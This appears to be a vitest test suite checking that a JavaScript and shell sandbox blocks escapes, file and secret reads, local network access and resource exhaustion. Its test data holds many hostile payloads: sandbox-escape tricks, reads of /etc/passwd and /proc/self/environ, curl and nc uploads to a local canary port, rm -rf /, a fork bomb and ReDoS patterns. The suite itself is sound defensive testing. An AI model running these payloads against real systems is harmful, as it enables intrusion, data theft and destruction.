import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { hostname, tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Sandbox } from '../../../lab/sandbox/sandbox.js'
import { workOf } from '../../support/work-of.js'
import { type CanaryServer, openCanary } from './canary-server.js'
import { childProcess, newSandbox, patient } from './new-sandbox.js'

/** Real things of this computer; none may show in an answer, and none may change. */
const folder = mkdtempSync(join(tmpdir(), 'canary-'))
const file = join(folder, 'secret.txt')
const secret = 'nobody inside may read this'
writeFileSync(file, secret)
process.env.CANARY = 'nor this'
const real = [secret, 'nor this', process.cwd(), process.version, ...(hostname().length > 3 ? [hostname()] : [])]

let sandbox: Sandbox
/** For what never ends. */
let hasty: Sandbox
let canary: CanaryServer
let lab: CanaryServer

beforeAll(async () => {
  canary = await openCanary()
  lab = await openCanary()
  sandbox = newSandbox()
  hasty = newSandbox({ workLimits: { work: 200, grace: 2500 } })
  sandbox.outbound.setOwnAddress({ host: '127.0.0.1', port: lab.port })
})
afterAll(async () => {
  await sandbox.close()
  await hasty.close()
  canary.close()
  lab.close()
  delete process.env.CANARY
})

const run = async (code: string, { engine } = sandbox) => JSON.stringify(await patient(engine).evaluate(code))
/** Runs a command line inside, and shows what it printed. */
const shell = (line: string) => run(`${childProcess}.spawnSync('sh', ['-c', ${JSON.stringify(line)}]).output.join('')`)

function expectUntouched(answer: string): void {
  for (const thing of real) expect(answer).not.toContain(thing)
  expect(readdirSync(folder)).toEqual(['secret.txt'])
  expect(readFileSync(file, 'utf8')).toBe(secret)
  expect(canary.connections()).toBe(0)
}

/** Processes that this one has started, but for the compiler of the sources. */
function children(): string[] {
  const tasks = readdirSync('/proc/self/task')
  const ids = tasks.flatMap((task) =>
    readFileSync(`/proc/self/task/${task}/children`, 'utf8').split(' ').filter(Boolean),
  )
  return ids
    .map((id) => readFileSync(`/proc/${id}/comm`, 'utf8').trim())
    .filter((command) => !command.includes('esbuild'))
}

describe('a script does not get out', () => {
  const leak = `require('fs').readFileSync(${JSON.stringify(file)}, 'utf8')`
  it.each([
    ['the constructor of a constructor', `this.constructor.constructor('return process')().env.CANARY`],
    ['the constructor of a function', `(function(){}).constructor('return globalThis')().process.env.CANARY`],
    ['an async function', `(async()=>{}).constructor('return process.env.CANARY')()`],
    ['a generator function', `(function*(){}).constructor('yield process.env.CANARY')().next().value`],
    [
      'the prototype of a given value',
      `user.__proto__.__proto__.constructor.constructor('return process.env')().CANARY`,
    ],
    [
      'the prototype chain of require',
      `require.constructor('return process.mainModule.filename')() + require.__proto__`,
    ],
    ['the callers of a function', `(function f(){ return f.caller + '' + arguments.callee.caller })()`],
    [
      'the frames of an error',
      `Error.prepareStackTrace = (e, s) => s; const t = new Error().stack; t + (t[0] && t[0].getThis && t[0].getThis())`,
    ],
    ['a proxy that is called with a frame', `new Proxy(function(){}, { apply: (t, self) => self }).call()`],
    [
      'an error thrown by the host',
      `try { require('fs').readFileSync('/nope') } catch (e) { e.constructor.constructor('return process')().env.CANARY }`,
    ],
    ['an altered JSON', `JSON.stringify = () => '["read","${file}"]'; JSON.parse = (t) => t; ${leak}`],
    ['a forged system call', `JSON.stringify = () => '["constructor"]'; require('fs').readdirSync('/')`],
    [
      'a system call that is no text',
      `JSON.stringify = () => ({ toString: () => '["run","id"]' }); String(require('fs').readdirSync('/'))`,
    ],
    [
      'a system call of a polluted name',
      `JSON.stringify = () => '["__proto__","toString"]'; String(require('fs').readdirSync('/'))`,
    ],
    ['a module of the host', `require('worker_threads').parentPort`],
    ['the modules of the host by path', `require('${file}')`],
    ['vm', `require('vm').runInThisContext('process.env.CANARY')`],
    ['an import', `import('node:fs').then((fs) => fs.readFileSync('${file}'))`],
    ['an import that is awaited', `var out; import('fs').then((x) => { out = x }, (e) => { out = e }); out`],
    ['process.binding', `process.binding('fs').internalModuleReadJSON('${file}')`],
    ['process._linkedBinding', `process._linkedBinding('spawn_sync')`],
    ['process.dlopen', `process.dlopen({ exports: {} }, '${file}')`],
    ['the loader of the main module', `process.mainModule.constructor._load('${file}')`],
    ['a module cache', `Object.keys(require.cache) + JSON.stringify(process.mainModule.children)`],
    ['the end of the process', `process.reallyExit(0)`],
    ['a signal', `process.kill(process.ppid, 'SIGKILL')`],
    [
      'WebAssembly of the host',
      `typeof WebAssembly + typeof SharedArrayBuffer + typeof Atomics + new WebAssembly.Memory({})`,
    ],
    [
      'globals of the worker',
      `[typeof Deno, typeof Worker, typeof MessageChannel, typeof performance, typeof parentPort, typeof std, typeof bjson, typeof workerData] + ''`,
    ],
    ['a debugger', `debugger; require('inspector').url()`],
    ['a real file', leak],
    ['a real file by going up', `require('fs').readFileSync('../../../../../..${file}', 'utf8')`],
    ['a real file by URL', `require('fs').readFileSync({ href: 'file://${file}', pathname: '${file}' }, 'utf8')`],
    ['a real file by way of /proc', `require('fs').readFileSync('/proc/self/cwd/package.json', 'utf8')`],
    ['the real environment', `require('fs').readFileSync('/proc/self/environ', 'utf8') + JSON.stringify(process.env)`],
    ['a link', `require('fs').symlinkSync('${folder}', '/tmp/link'); require('fs').readdirSync('/tmp/link')`],
    ['a real folder to write to', `require('fs').writeFileSync('${join(folder, 'pwned')}', 'x')`],
    ['a real program', `${childProcess}.execSync('${process.execPath} -e 1; touch ${folder}/pwned')`],
    ['a socket', `require('net').connect(PORT)`],
    ['another local port', `require('http').get('http://127.0.0.1:PORT/'); fetch('http://localhost:PORT/')`],
    ['another local port by object', `require('http').request({ host: '127.0.0.1', port: PORT, path: '/' }).end()`],
  ])('by %s', async (_, code) => {
    const port = String(canary.port)
    const given = { user: { name: 'jim' } }
    const evaluation = await patient(sandbox.engine).evaluate(code.replaceAll('PORT', port), given)
    expectUntouched(JSON.stringify(evaluation))
    expect(await run('6*7')).toContain('"42"')
  })
})

describe('a command does not get out', () => {
  it.each([
    ['a real file', `cat ${file}`],
    ['a real file through pipes', `cat < ${file} | cat; head ${file}; grep -r nobody ${folder}`],
    ['real folders', `ls -la ${folder}; find / -name secret.txt`],
    ['writing to a real folder', `touch ${folder}/pwned; echo x > ${folder}/pwned; cp /etc/passwd ${folder}/pwned`],
    ['removing real files', `rm -rf ${folder} / /tmp/*`],
    ['a substitution', `echo $(cat ${file}) \`cat ${file}\``],
    ['real programs', `${process.execPath} -v; /usr/bin/env; python3 -c 1; perl -e 1`],
    ['node', `node -e "require('fs').writeFileSync('${folder}/pwned','')"`],
    ['a new line and a null byte', `cat /etc/passwd\ncat ${file}\0`],
    ['the real environment', 'env; echo $CANARY; cat /proc/self/environ /proc/1/environ; set'],
    ['mounts and links', `ln -s ${folder} /tmp/l; mount --bind / /tmp; chroot /; ls /tmp/l`],
    ['devices', 'cat /dev/sda /dev/mem /dev/tcp/127.0.0.1/PORT; echo x > /dev/tcp/127.0.0.1/PORT'],
    ['another local port', 'curl http://127.0.0.1:PORT/; wget -qO- http://localhost:PORT/; nc 127.0.0.1 PORT'],
    [
      'another local port, disguised',
      'curl http://2130706433:PORT/; curl http://0x7f.1:PORT; curl http://[::ffff:127.0.0.1]:PORT/',
    ],
    [
      'an option that reads files',
      `curl -d @${file} http://localhost:3000/; curl -T ${file} http://localhost:3000/; curl -K ${file}; curl file://${file}; wget -i ${file}`,
    ],
    [
      'a proxy',
      'http_proxy=http://127.0.0.1:PORT curl http://example.com/; curl -x http://127.0.0.1:PORT http://example.com/',
    ],
    ['a host header', "curl -H 'Host: 127.0.0.1:PORT' http://localhost:3000/"],
  ])('by %s', async (_, line) => {
    expectUntouched(await shell(line.replaceAll('PORT', String(canary.port))))
    expect(lab.requests.every((request) => !request.includes('secret'))).toBe(true)
  })
})

describe('the lab has its time for everybody else', () => {
  it.each([
    ['an endless loop', 'for (;;);', 'time'],
    ['an endless loop that catches', 'for (;;) try { for (;;); } catch {} finally { for (;;); }', 'time'],
    ['a hopeless expression', "/((a+)+)b/.test('a'.repeat(40))", 'time'],
    ['a search without a pause', "'a'.repeat(8e6).indexOf('a'.repeat(4e6) + 'b')", 'time'],
    ['a value whose text is endless', '({ toString() { for (;;); } })', 'time'],
    ['a getter', 'Object.defineProperty({}, "x", { get() { for (;;); } }).x', 'time'],
    // The speed of the machine decides which limit it meets first.
    ['ever more memory', 'const all = []; for (;;) all.push(new Uint8Array(1e6))', ''],
    ['one large array', 'new Array(1e9).fill(0)', 'memory'],
    ['one large text', '"x".repeat(2 ** 30)', ''],
    ['one large buffer', 'new Uint8Array(2 ** 31)', ''],
    ['a large number', '2n ** (2n ** 40n)', ''],
    ['deep recursion', '(function f() { f() })()', 'memory'],
    ['deep nesting in the source', "eval('('.repeat(1e5))", ''],
    ['deep nesting in JSON', "JSON.parse('['.repeat(1e6))", ''],
    ['deep nesting in an expression', "new RegExp('('.repeat(1e5) + ')'.repeat(1e5))", ''],
    ['endless promises', '(function f() { Promise.resolve().then(f) })()', undefined],
    ['endless timers', '(function f() { setTimeout(f); setTimeout(f) })()', 'any'],
    ['long sleep', `${childProcess}.execSync('sleep 3600')`, undefined],
    ['a fork bomb', `${childProcess}.spawnSync('sh', ['-c', ':(){ :|:& };:'])`, undefined],
    ['endless programs', `for (;;) ${childProcess}.spawnSync('true')`, 'threw'],
    [
      'a slow grep',
      `require('fs').writeFileSync('/tmp/a', 'a'.repeat(60)); ${childProcess}.execSync('grep -E "(a+)+b" /tmp/a')`,
      'time',
    ],
    [
      'huge files',
      `const fs = require('fs'); for (let i = 0; ; i++) fs.writeFileSync('/tmp/' + i, 'x'.repeat(1e6))`,
      '',
    ],
    ['too long a script', `/*${'x'.repeat(70_000)}*/ 1`, 'too-long'],
  ])('under %s', async (_, code, reason) => {
    const used = reason === 'time' ? hasty : sandbox
    // On a busy machine these would meet the limit of time first.
    const engine = reason === 'memory' || reason === 'threw' ? patient(used.engine) : used.engine
    await run('1', used)
    let evaluation: unknown
    const began = performance.now()
    const work = await workOf(async () => {
      evaluation = await engine.evaluate(code)
    })
    const taken = performance.now() - began
    if (reason === undefined) expect(evaluation).toMatchObject({ kind: 'value' })
    else if (reason === '') expect(evaluation).toMatchObject({ kind: 'failed' })
    else if (reason !== 'any') expect(evaluation).toMatchObject({ kind: 'failed', reason })
    // A script on this thread, which is the lab's, would take at least the time that it may work.
    expect(work).toBeLessThan(Math.max(200, taken / 10))
    expect(await run('6*7', used)).toContain('"42"')
  })

  it('and a long answer is cut', async () => {
    const evaluation = await sandbox.engine.evaluate("'x'.repeat(5e6)")
    expect(evaluation).toMatchObject({ kind: 'value' })
    expect(JSON.stringify(evaluation).length).toBeLessThan(70_000)
  })

  it('and so do the witnesses', () => {
    expectUntouched('')
    if (process.platform === 'linux') expect(children()).toEqual([])
  })
})
